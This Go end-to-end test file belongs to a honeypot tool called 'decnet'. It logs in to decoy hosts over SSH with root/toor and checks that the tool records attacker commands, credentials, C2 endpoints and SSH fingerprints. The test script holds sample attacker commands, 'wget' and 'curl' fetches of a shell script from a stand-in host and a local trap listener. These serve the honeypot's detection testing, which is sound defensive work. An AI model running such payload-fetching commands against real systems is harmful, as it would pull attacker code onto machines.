package e2e

import (
	"crypto/md5"
	"encoding/hex"
	"fmt"
	"net"
	"slices"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
)

// TestUpRecordsSSHAttackers is the main-job scenario: two sources log in to
// a decky with the real OpenSSH client, run commands including a download,
// and `decnet attackers --json` shows both, while a separately run ingester
// is killed and restarted between the two sessions.
func TestUpRecordsSSHAttackers(t *testing.T) {
	f := startFleet(t, "--deckies", "2", "--ports", "ssh=2222,http=8080", "--no-ingest")
	deckies := f.status(t)
	if len(deckies) != 2 {
		t.Fatalf("status lists %d deckies, want 2: %+v", len(deckies), deckies)
	}
	for _, d := range deckies {
		if d.State != "running" || d.Hostname == "" || d.Distro == "" || d.Persona == "" {
			t.Errorf("decky %+v is not a running, described decky", d)
		}
	}
	target := deckies[0]
	port := target.port(t, "ssh")

	// A listener the commands point wget and curl at: a fetch would show up
	// here as an accepted connection.
	trap, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer trap.Close()
	var fetched atomic.Int32
	go func() {
		for {
			c, err := trap.Accept()
			if err != nil {
				return
			}
			fetched.Add(1)
			c.Close()
		}
	}()
	trapURL := "http://" + trap.Addr().String() + "/y.sh"

	ingestEnv := []string{"DECNET_BUS_URL=" + f.busURL}
	ingester := startProc(t, ingestEnv, "ingest", "--data-dir", f.dataDir)

	commands := []string{"uname -a", "id", "wget http://192.0.2.10/x.sh", "curl -s -o /tmp/y " + trapURL}
	script := strings.Join(commands, "; ")

	first := runSSH(t, "127.0.0.21", "root", "toor", target.IP, port, script)
	if first.err != nil {
		t.Fatalf("ssh from 127.0.0.21: %v\n%s", first.err, tail(first.debug, 3000))
	}
	if !strings.Contains(first.stdout, "uid=0(root)") {
		t.Errorf("id printed %q, want uid=0(root)", first.stdout)
	}
	waitFor(t, 30*time.Second, "the first attacker row", func() bool {
		a, ok := f.attackers(t)["127.0.0.21"]
		return ok && len(a.Commands) == len(commands)
	})

	// Kill the ingester; the second session's events wait in the bus.
	ingester.stop(t, syscall.SIGKILL)
	second := runSSH(t, "127.0.0.22", "root", "toor", target.IP, port, script)
	if second.err != nil {
		t.Fatalf("ssh from 127.0.0.22: %v\n%s", second.err, tail(second.debug, 3000))
	}
	time.Sleep(500 * time.Millisecond)
	if _, ok := f.attackers(t)["127.0.0.22"]; ok {
		t.Fatal("second attacker stored while no ingester ran")
	}
	startProc(t, ingestEnv, "ingest", "--data-dir", f.dataDir)

	var attackers map[string]attackerJSON
	waitFor(t, 30*time.Second, "the second attacker row", func() bool {
		attackers = f.attackers(t)
		a, ok := attackers["127.0.0.22"]
		return ok && len(a.Commands) == len(commands)
	})

	kex, enc, mac, comp := clientKEXINIT(t, first.debug)
	sum := md5.Sum([]byte(kex + ";" + enc + ";" + mac + ";" + comp))
	wantHASSH := hex.EncodeToString(sum[:])

	for _, ip := range []string{"127.0.0.21", "127.0.0.22"} {
		a := attackers[ip]
		if diff := cmp.Diff(commands, a.Commands); diff != "" {
			t.Errorf("%s commands (-want +got):\n%s", ip, diff)
		}
		if !slices.Contains(a.Deckies, target.Name) || !slices.Contains(a.Services, "ssh") {
			t.Errorf("%s touched %v/%v, want %s/ssh", ip, a.Deckies, a.Services, target.Name)
		}
		if len(a.Credentials) != 1 || a.Credentials[0].Username != "root" || a.Credentials[0].Password != "toor" {
			t.Errorf("%s credentials = %+v, want root/toor once", ip, a.Credentials)
		}
		for _, c2 := range []string{"http://192.0.2.10/x.sh", "192.0.2.10", trapURL} {
			if !slices.Contains(a.C2Endpoints, c2) {
				t.Errorf("%s c2_endpoints = %v, missing %s", ip, a.C2Endpoints, c2)
			}
		}
		if got := a.Fingerprints["hassh"]; got != wantHASSH {
			t.Errorf("%s hassh = %q, want %q computed from the client's KEXINIT", ip, got, wantHASSH)
		}
		if v := a.Fingerprints["ssh_client_version"]; !strings.HasPrefix(v, "SSH-2.0-OpenSSH_") {
			t.Errorf("%s ssh_client_version = %q", ip, v)
		}
	}
	if n := fetched.Load(); n != 0 {
		t.Errorf("the decky fetched the download URL %d times, want never", n)
	}

	// The REST API inside `decnet up` serves the same records.
	token := f.apiToken(t)
	var page struct {
		Total int `json:"total"`
		Data  []struct {
			IP string `json:"ip"`
		} `json:"data"`
	}
	if code := f.apiGet(t, token, "/api/v1/attackers?ip=127.0.0.22", &page); code != 200 || page.Total != 1 || len(page.Data) != 1 {
		t.Errorf("GET /api/v1/attackers?ip=127.0.0.22 = %d %+v, want one attacker", code, page)
	}
	if code := f.apiGet(t, "", "/api/v1/attackers", nil); code != 401 {
		t.Errorf("GET /api/v1/attackers without a token = %d, want 401", code)
	}
	var workerList []struct {
		Name   string `json:"name"`
		Status string `json:"status"`
	}
	f.apiGet(t, token, "/api/v1/workers", &workerList)
	for _, w := range workerList {
		if w.Name == "fleet" && w.Status != "ok" {
			t.Errorf("worker fleet has status %q, want ok", w.Status)
		}
	}

	// Ctrl-C stops everything within 5 s; a second up resumes the fleet.
	if took := f.up.stop(t, syscall.SIGINT); took > 5*time.Second {
		t.Errorf("decnet up took %v to stop after SIGINT, want at most 5 s", took)
	}
	again := startProc(t, nil, "up", "--data-dir", f.dataDir, "--subnet", f.subnet, "--no-ingest", "--bus-listen", "none", "--api-addr", "none")
	again.waitOutput(t, "decnet is up", 60*time.Second)
	resumed := f.status(t)
	if diff := cmp.Diff(deckies, resumed); diff != "" {
		t.Errorf("resumed fleet differs (-before +after):\n%s", diff)
	}
	out := runSSH(t, "127.0.0.23", "root", "toor", target.IP, port, "hostname")
	if out.err != nil || strings.TrimSpace(out.stdout) != target.Hostname {
		t.Errorf("resumed decky answered hostname %q (%v), want %q", out.stdout, out.err, target.Hostname)
	}
}

// TestDeployAndTeardownApplyToRunningUp checks that deckies recorded by
// other commands start and stop in a running `decnet up`.
func TestDeployAndTeardownApplyToRunningUp(t *testing.T) {
	f := startFleet(t, "--deckies", "1", "--ports", "ssh=2222,http=8080")

	f.run(t, "deploy", "--deckies", "1", "--services", "http", "--ports", "http=8080", "--subnet", f.subnet)
	var added deckyStatus
	waitFor(t, 30*time.Second, "the deployed decky to run", func() bool {
		for _, d := range f.status(t) {
			if d.Name == "decky-02" && d.State == "running" {
				added = d
				return true
			}
		}
		return false
	})
	conn, err := net.DialTimeout("tcp", fmt.Sprintf("%s:%d", added.IP, added.port(t, "http")), 5*time.Second)
	if err != nil {
		t.Fatalf("deployed decky does not listen: %v", err)
	}
	conn.Close()

	f.run(t, "teardown", "--name", "decky-02")
	waitFor(t, 30*time.Second, "the torn-down decky to stop listening", func() bool {
		c, err := net.DialTimeout("tcp", fmt.Sprintf("%s:%d", added.IP, added.port(t, "http")), time.Second)
		if err == nil {
			c.Close()
			return false
		}
		return true
	})
	if got := f.status(t); len(got) != 1 || got[0].Name != "decky-01" {
		t.Errorf("status after teardown = %+v, want decky-01 only", got)
	}
}
